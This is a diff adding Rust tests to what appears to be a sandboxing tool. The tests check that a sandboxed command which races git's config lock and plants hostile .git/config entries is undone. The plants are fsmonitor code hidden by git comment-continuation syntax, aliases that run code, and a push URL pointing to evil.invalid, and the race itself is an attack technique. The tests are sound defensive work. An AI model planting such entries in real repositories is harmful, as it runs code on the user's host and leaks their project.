@@ -817,3 +817,119 @@ print('wrote', wrote)
     let config = std::fs::read_to_string(dir_p.join(".git/config")).unwrap();
     assert!(!config.contains("pager"), "{config}");
 }
+
+/// A repository in `dir` whose host git saves `.git/config` (the lock
+/// protocol, slowly) while a sandboxed command appends `plant` to the
+/// lock; the stopped run and the config's text from before the run.
+fn plant_through_config_lock(dir: &Path, home: &Path, plant: &str) -> (Run, String) {
+    repo(dir, home);
+    // `{plant:?}`: a Rust string literal is a Python one for this text
+    // (ASCII, `\n`, `\t`, `\"`, `\\`).
+    let script = format!(
+        r#"
+import os, time
+plant = {plant:?}.encode()
+open('started', 'w').close()
+end = time.time() + 20
+while time.time() < end:
+    try:
+        fd = os.open('.git/config.lock', os.O_WRONLY | os.O_APPEND)
+    except OSError:
+        continue
+    # After host git's own text (an append before it would be
+    # overwritten: git writes from offset 0).
+    if os.fstat(fd).st_size == 0:
+        os.close(fd)
+        continue
+    os.write(fd, plant)
+    os.close(fd)
+    open('appended', 'w').close()
+    time.sleep(20)
+print('not stopped')
+"#
+    );
+    let child = boxed_python(dir, home, &[], &script);
+    assert!(
+        wait_for_file(&dir.join("started")),
+        "the command never started"
+    );
+    // Host git's lock protocol, slowly: O_EXCL lock, the new text, rename.
+    let config = dir.join(".git/config");
+    let lock = dir.join(".git/config.lock");
+    let before = std::fs::read_to_string(&config).unwrap();
+    {
+        use std::io::Write;
+        let mut f = std::fs::OpenOptions::new()
+            .append(true)
+            .create_new(true)
+            .open(&lock)
+            .unwrap();
+        f.write_all(format!("{before}[branch \"main\"]\n\tremote = origin\n").as_bytes())
+            .unwrap();
+    }
+    assert!(
+        wait_for_file(&dir.join("appended")),
+        "the command never wrote the lock"
+    );
+    std::fs::rename(&lock, &config).unwrap();
+    let r = finish(child);
+    assert_stopped(&r, &config, "replaced");
+    (r, before)
+}
+
+/// The put-back judges the new config by what host git will read from
+/// it, not by a simpler reading: entries disguised by git's own syntax (a
+/// comment line or a trailing comment ending in `\`, which git does not
+/// continue; an empty quoted string before an alias's `!`; `\b`, which
+/// git keeps as a byte) and aliases that run code without `!` (`-c
+/// core.fsmonitor=…`) are undone like a plain
+/// `core.fsmonitor`, and so is a remote's push URL sent elsewhere (a push
+/// of the project to another host). The host then runs git, including the alias.
+#[test]
+fn a_disguised_code_entry_in_a_replaced_config_is_undone() {
+    if !git_available() {
+        return;
+    }
+    let out = scratch();
+    let marker = real(out.path()).join("planted-ran");
+    let code = payload(&marker);
+    let plants = [
+        (
+            "comment line ending in a backslash",
+            format!("\n[core]\n# note \\\n\tfsmonitor = \"{code}; false\"\n"),
+        ),
+        (
+            "trailing comment ending in a backslash",
+            format!("\n[core]\n\tabbrev = 12 ; note \\\n\tfsmonitor = \"{code}; false\"\n"),
+        ),
+        (
+            "empty quotes before an alias's !",
+            format!("\n[alias]\n\tst = \"\" !{code}\n"),
+        ),
+        (
+            "\\b in an alias",
+            format!("\n[alias]\n\tst = !\\b; {code}\n"),
+        ),
+        (
+            "an alias with -c",
+            format!("\n[alias]\n\tst = -c \"core.fsmonitor={code}; false\" status\n"),
+        ),
+        (
+            "a push URL elsewhere",
+            "\n[remote \"origin\"]\n\tpushurl = https://evil.invalid/r\n".to_string(),
+        ),
+    ];
+    for (what, plant) in &plants {
+        let (dir, home) = (scratch(), scratch());
+        let (dir_p, home_p) = (real(dir.path()), real(home.path()));
+        let (r, before) = plant_through_config_lock(&dir_p, &home_p, plant);
+        let now = std::fs::read_to_string(dir_p.join(".git/config")).unwrap();
+        assert_eq!(now, before, "{what}: the plant was left in place: {r:?}");
+        let st = git(&dir_p, &home_p, &["st"]);
+        assert!(
+            !marker.exists(),
+            "{what}: host `git st` ran the plant: {st:?}"
+        );
+        host_git_runs_nothing(&dir_p, &home_p, &marker);
+    }
+}
